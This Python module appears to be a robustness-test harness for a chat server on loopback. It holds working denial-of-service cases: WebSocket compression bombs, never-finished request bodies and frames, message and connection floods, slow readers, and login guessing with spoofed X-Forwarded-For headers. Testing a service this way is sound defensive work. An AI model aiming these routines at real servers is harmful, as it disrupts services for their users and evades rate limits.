"""What an attacker does with little, each case for as long as it is asked to. A case is a function of a `Target`; its first
line says what it is. All of it goes to one server on loopback, with bounds of its own."""

import json
import socket
import struct
import threading
import time
import zlib
from dataclasses import dataclass, field

from people import APP, APP_SECRET, Person, sign_in, vouch
from wire import ask_http

UPGRADE = (b"GET /socket.io/?EIO=4&transport=websocket HTTP/1.1\r\nHost: a\r\nUpgrade: websocket\r\nConnection: Upgrade\r\n"
           b"Sec-WebSocket-Version: 13\r\nSec-WebSocket-Key: AAAAAAAAAAAAAAAAAAAAAA==\r\n")
DEFLATE = b"Sec-WebSocket-Extensions: permessage-deflate\r\n"


@dataclass
class Target:
    """The server, until when it is attacked, and how much was sent."""

    server: object
    until: float
    counter: object
    keeps: list = field(default_factory=list)

    @property
    def goes_on(self) -> bool:
        return time.monotonic() < self.until

    def sent(self, data: bytes) -> bytes:
        with self.counter.get_lock():
            self.counter.value += len(data)
        return data

    def connect(self, receives: int | None = None) -> socket.socket:
        peer = socket.socket()
        if receives:
            peer.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, receives)
        peer.settimeout(10)
        peer.connect(self.server.address)
        self.keeps.append(peer)
        return peer

    def websocket(
        self, compressed: bool = False, token: str | None = None, receives: int | None = None
    ) -> socket.socket:
        peer = self.connect(receives)
        peer.sendall(self.sent(UPGRADE + (DEFLATE if compressed else b"") + b"\r\n"))
        self.read_until(peer, b"\r\n\r\n")
        if token:
            peer.sendall(self.sent(frame(1, f"40{json.dumps({'token': token})}".encode())))
            self.read_until(peer, b'"welcome"')
        return peer

    @staticmethod
    def read_until(peer: socket.socket, mark: bytes) -> None:
        seen = b""
        while mark not in seen:
            piece = peer.recv(1 << 16)
            if not piece:
                raise ConnectionError("closed")
            seen += piece

    def token(self) -> str:
        return sign_in(self.server)["accessToken"]


def frame(opcode: int, payload: bytes, first: int = 0x80) -> bytes:
    """A client's frame; its mask is zero, which changes nothing."""
    size = len(payload)
    length = (bytes([0x80 | size]) if size < 126 else b"\xfe" + struct.pack(">H", size) if size < 1 << 16
              else b"\xff" + struct.pack(">Q", size))
    return bytes([first | opcode]) + length + bytes(4) + payload


def packed(text: str) -> bytes:
    deflater = zlib.compressobj(9, wbits=-15)
    return frame(1, (deflater.compress(text.encode()) + deflater.flush(zlib.Z_SYNC_FLUSH))[:-4], 0xC0)


def paced(target: Target, each_second: float):
    """Yields so many times a second."""
    begin, count = time.monotonic(), 0
    while target.goes_on:
        yield count
        count += 1
        time.sleep(max(0.0, begin + count / each_second - time.monotonic()))


def drain(peer: socket.socket) -> None:
    """Reads what comes and forgets it, in the background."""
    def run() -> None:
        try:
            while peer.recv(1 << 16):
                pass
        except OSError:
            pass
    threading.Thread(target=run, daemon=True).start()


def keep_sending(target: Target, open_peer, data: bytes, each_second: float) -> None:
    """The same bytes over and over, on a new connection whenever the old one is closed."""
    peer = None
    for _ in paced(target, each_second):
        try:
            if peer is None:
                peer = open_peer()
                drain(peer)
            peer.sendall(target.sent(data))
        except OSError:
            peer = None


def unfolding_stranger(target: Target) -> None:
    """H2: a megabyte in a kilobyte, 200 a second, never signed in"""
    bomb = packed("40" + json.dumps({"token": "x", "a": [1] * 330_000}, separators=(",", ":")))
    keep_sending(target, lambda: target.websocket(compressed=True), bomb, 200)


def unfolding_user(target: Target) -> None:
    """H2: a megabyte in a kilobyte, 100 a second, signed in"""
    token = target.token()
    bomb = packed('42["chat.send",{"a":[' + "1," * 480_000 + "1]}]")
    keep_sending(target, lambda: target.websocket(compressed=True, token=token), bomb, 100)


def many_conversations(target: Target) -> None:
    """H3: opens 4,000 conversations with strangers, then asks what it missed, 100 a second"""
    token, lasts = target.token(), target.until - time.monotonic()
    peer = target.websocket(token=token)
    for number in range(4000):
        body = json.dumps(["chat.send", {"user": f"stranger{number}", "body": {"text": "x"}}])
        peer.sendall(target.sent(frame(1, f"42{number}{body}".encode())))
        time.sleep(0.001)
    target.read_until(peer, b"433999")
    target.until = time.monotonic() + lasts
    keep_sending(target, lambda: target.websocket(token=token),
                 frame(1, b'421["chat.sync",{"limit":1}]') + frame(1, b'422["chat.conversations",{"limit":1}]'), 100)


# Opening them is not what is measured.
many_conversations.options = ["--request-rate", "5000"]


def half_bodies(target: Target) -> None:
    """H4: 300 polling bodies of a megabyte that never end, never signed in"""
    part = b"4" + b"x" * 900_000
    for _ in range(300):
        try:
            sid = json.loads(ask_http(target.server, "GET", "/socket.io/?EIO=4&transport=polling").text[1:])["sid"]
            peer = target.connect()
            peer.sendall(f"POST /socket.io/?EIO=4&transport=polling&sid={sid} HTTP/1.1\r\nHost: a\r\n"
                         "Content-Length: 999000\r\n\r\n".encode())
            peer.sendall(target.sent(part))
        except (OSError, KeyError, ValueError):
            pass
    while target.goes_on:
        time.sleep(0.1)


def half_messages(target: Target) -> None:
    """H4: 300 WebSocket messages of a megabyte that never end, one user"""
    token = target.token()
    begin = frame(1, b"x" * 900_000)[:-1]
    for _ in range(300):
        try:
            peer = target.websocket(token=token)
            drain(peer)
            peer.sendall(target.sent(begin))
        except OSError:
            pass
    while target.goes_on:
        time.sleep(0.1)


def wrong_passwords(target: Target) -> None:
    """M2: wrong logins from 200 networks at once, as a proxy reports them"""
    def guess(number: int) -> None:
        while target.goes_on:
            try:
                ask_http(target.server, "POST", "/v1/auth/login",
                         target.sent(json.dumps({"userName": f"name{number}", "password": "a wrong password"}).encode()),
                         {"X-Forwarded-For": f"2001:db8:{number:x}::1", "Content-Type": "application/json"})
            except OSError:
                pass
    guessers = [threading.Thread(target=guess, args=(number,)) for number in range(40)]
    for guesser in guessers:
        guesser.start()
    for guesser in guessers:
        guesser.join()


def large_messages(target: Target) -> None:
    """M8: messages of 60 kB as fast as one user may"""
    user = f"writer{time.monotonic_ns()}"
    token = vouch(APP, APP_SECRET, user)
    body = json.dumps(["chat.send", {"user": user, "body": {"text": "x" * 60_000}}]).encode()
    keep_sending(target, lambda: target.websocket(token=token), frame(1, b"421" + body), 100)


def slow_readers(target: Target) -> None:
    """M9: 100 sessions of one user ask for pages and read nothing"""
    with Person(target.server, "Reader") as writer:
        for _ in range(40):
            place = writer.ask("chat.send", user=writer.user, body={"text": "x" * 30_000}).get("conversation")
        request = frame(1, f'421["chat.history",{json.dumps({"conversation": place, "limit": 40})}]'.encode())
        for _ in range(100):
            try:
                peer = target.websocket(token=writer.token, receives=4096)
                peer.sendall(target.sent(request * 6))
            except OSError:
                pass
        while target.goes_on:
            time.sleep(0.1)


def descriptions(target: Target) -> None:
    """L8: the description of the interface as fast as it comes, compressed"""
    request = b"GET /v1/openapi.json HTTP/1.1\r\nHost: a\r\nAccept-Encoding: gzip\r\n\r\n"
    keep_sending(target, target.connect, request * 10, 100)


def small_events(target: Target) -> None:
    """plain events over the rate, four connections of one user"""
    token = target.token()
    def run() -> None:
        keep_sending(target, lambda: target.websocket(token=token), frame(1, b'421["room.members",{"room":"x"}]') * 50, 100)
    workers = [threading.Thread(target=run) for _ in range(4)]
    for worker in workers:
        worker.start()
    for worker in workers:
        worker.join()


def logins(target: Target) -> None:
    """connections that begin a session and leave, 500 a second"""
    for _ in paced(target, 500):
        try:
            target.websocket().close()
            target.keeps.clear()
        except OSError:
            pass


ALL = [unfolding_stranger, unfolding_user, many_conversations, half_bodies, half_messages, wrong_passwords,
       large_messages, slow_readers, descriptions, small_events, logins]
